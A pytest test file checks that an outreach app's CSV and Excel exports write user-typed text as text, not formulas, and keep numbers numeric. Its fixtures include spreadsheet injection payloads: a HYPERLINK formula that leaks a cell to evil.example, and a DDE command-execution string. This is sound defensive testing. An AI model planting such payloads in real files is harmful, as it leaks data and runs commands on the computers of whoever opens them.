"""Formula injection: every export writes typed text as text, never as a formula, and numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from nicegui.testing import User as TestUser
from openpyxl import load_workbook
from sqlmodel import Session, select

from models import Household, Visit
from services import audit
from services.audit import export_csv
from services.events import attendance
from services.requests import stats as request_stats
from services.spreadsheets.writer import Sheet, csv_bytes, xlsx_bytes
from services.year import annual_record
from tests.helpers import account, sign_in

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
HOSTILE = ["=1+1", "+cmd|' /C calc'!A0", "-2", "@SUM(A1)", "\t=1+1", "\r=1+1", HYPERLINK]


def formula_cells(content: bytes) -> list[str]:
    workbook = load_workbook(io.BytesIO(content))
    return [f"{sheet.title}!{cell.coordinate}={cell.value!r}" for sheet in workbook.worksheets
            for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def xlsx_values(content: bytes) -> list[object]:
    """Every cell's value; a carriage return is read back as a line feed (XML normalises line ends)."""
    workbook = load_workbook(io.BytesIO(content))
    return [cell.value.replace("\n", "\r") if isinstance(cell.value, str) else cell.value
            for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def assert_csv_defused(content: bytes, hostile: list[str]) -> None:
    cells = csv_cells(content)
    for text in hostile:
        assert "'" + text in cells, f"{text!r} not written as text"
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not is_number(c))]


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


async def test_formula_typed_into_visit_notes_exports_as_text(user: TestUser, demo: Session) -> None:
    member = account(demo, "member1")
    household = demo.exec(select(Household).join(Visit, Visit.household_id == Household.id)
                          .where(Visit.member_id == member.id)).first()
    assert household is not None
    await sign_in(user, "member1")
    await user.open(f"/households/{household.id}/visit")
    user.find(marker="use-address").click()
    user.find("Notes").type(HYPERLINK)
    user.find(marker="save-visit").click()
    await user.should_see("Visit saved.", retries=40)
    demo.rollback()
    assert demo.exec(select(Visit).where(Visit.notes == HYPERLINK)).first() is not None
    # The rest of the hostile texts, as other fields of other records would hold them.
    visits = demo.exec(select(Visit).order_by(Visit.id).limit(6)).all()
    for visit, text in zip(visits, HOSTILE[:6], strict=True):
        visit.help_given = text
        demo.add(visit)
    target = demo.get(Household, household.id)
    assert target is not None
    target.head_name = "=1+1"
    target.address = "@SUM(A1)"
    demo.add(target)
    demo.commit()

    await sign_in(user, "coord")
    for kind in ("visits", "households"):
        response = await user.http_client.get(f"/exports/{kind}.xlsx")
        assert response.status_code == 200
        assert formula_cells(response.content) == []
        values = xlsx_values(response.content)
        expected = HOSTILE if kind == "visits" else ["=1+1", "@SUM(A1)"]
        for text in expected:
            assert text in values  # shown exactly as typed, as text
        if kind == "visits":
            assert any(isinstance(v, float) and v > 0 for v in values)  # coordinates stay numbers
        csv_response = await user.http_client.get(f"/exports/{kind}.csv")
        assert_csv_defused(csv_response.content, expected)


def test_formula_guard_keeps_real_numbers_numeric() -> None:
    content = xlsx_bytes(Sheet("t", [[-2, -73.5, "-2", "a-b", "", None]]))
    assert xlsx_values(content)[:4] == [-2, -73.5, "-2", "a-b"]
    assert formula_cells(content) == []
    assert csv_cells(csv_bytes([[-2, -73.5, "-2"]])) == ["-2", "-73.5", "'-2"]


@pytest.mark.parametrize("writer", ["roster", "annual_record", "requests", "audit"])
def test_formula_guard_is_the_same_in_every_export(writer: str, demo: Session) -> None:
    table: list[list[object]] = [["Name", "Hours"], *[[text, -1.5] for text in HOSTILE]]
    outputs: list[tuple[str, bytes]] = []
    if writer == "roster":
        outputs = [("csv", attendance.to_csv(table)), ("xlsx", attendance.to_xlsx(table))]  # type: ignore[arg-type]
    elif writer == "annual_record":
        outputs = [("xlsx", annual_record.to_xlsx("=title", table))]  # type: ignore[arg-type]
    elif writer == "requests":
        outputs = [("csv", request_stats.to_csv(table)),  # type: ignore[arg-type]
                   ("xlsx", request_stats.to_xlsx(table, [("=1+1", "-2")]))]  # type: ignore[arg-type]
    else:
        admin = account(demo, "admin")
        for text in HOSTILE:
            audit.record(demo, admin, "test", text, text)
        demo.commit()
        outputs = [("csv", export_csv(demo, admin))]
    for fmt, content in outputs:
        if fmt == "xlsx":
            assert formula_cells(content) == []
            values = xlsx_values(content)
            assert all(text in values for text in HOSTILE) and -1.5 in (values if writer != "audit" else [-1.5])
        else:
            assert_csv_defused(content, HOSTILE)
